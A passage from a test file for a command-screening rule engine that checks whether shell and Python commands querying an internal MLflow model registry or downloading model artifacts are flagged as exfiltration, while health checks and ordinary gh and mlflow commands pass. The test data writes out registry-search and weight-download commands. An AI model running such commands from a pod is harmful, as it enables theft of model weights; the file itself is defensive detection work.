      // A release of the project's own build, gists and snippets read, a model file beside a non-release create.
      sh('gh release create v1.2.0 dist/app.tar.gz --notes x'),
      sh('gh release create v1.2.0 --generate-notes'),
      sh('gh gist list'),
      sh('gh gist view abc123'),
      sh('glab snippet view 7'),
      sh('gh pr create --title "add /mnt/ckpt/model.pt loader" --body x'),
      sh('swift download drop model.pt'),
    ]) expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-EXFIL-038');
  });
});

describe('MLS-EXFIL-044: the model registry searched, or asked where a model is, from a pod', () => {
  const MLFLOW = 'http://mlflow.mlops.svc:5000';
  it('escalates on the registry and artifact-store REST calls, from any client', () => {
    for (const argv of [
      sh(`curl -s ${MLFLOW}/api/2.0/mlflow/registered-models/search?max_results=1000`),
      sh(`curl -s "${MLFLOW}/api/2.0/mlflow/model-versions/search?filter=name%3D%27llama-ft%27"`),
      ['wget', '-qO-', `${MLFLOW}/api/2.0/mlflow/model-versions/get-download-uri?name=llama-ft&version=3`],
      sh(`curl -s -X POST ${MLFLOW}/ajax-api/2.0/mlflow/registered-models/search -d '{}'`),
      sh(`curl -s "${MLFLOW}/api/2.0/mlflow-artifacts/artifacts?path=1/abc/artifacts/model"`),
      sh(`curl -s -o /tmp/m.bin "${MLFLOW}/get-artifact?path=model/model.safetensors&run_uuid=abc"`),
      ['python3', '-c', `import requests; print(requests.get('${MLFLOW}/api/2.0/mlflow/model-versions/search').json())`],
    ]) {
      const ids = execRuleIds(argv);
      expect(ids, argv.join(' ')).toContain('MLS-EXFIL-044');
    }
  });

  it('leaves a health check of the tracking server, metric logging and the MLflow CLI itself', () => {
    for (const argv of [
      sh(`curl -s ${MLFLOW}/health`),
      sh(`curl -s -X POST ${MLFLOW}/api/2.0/mlflow/runs/log-metric -d '{"run_id":"r","key":"loss","value":0.1}'`),
      ['mlflow', 'runs', 'list', '--experiment-id', '1'],
      sh('cat /workspace/mlflow/registered-models.md'),
    ]) expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-EXFIL-044');
  });
});
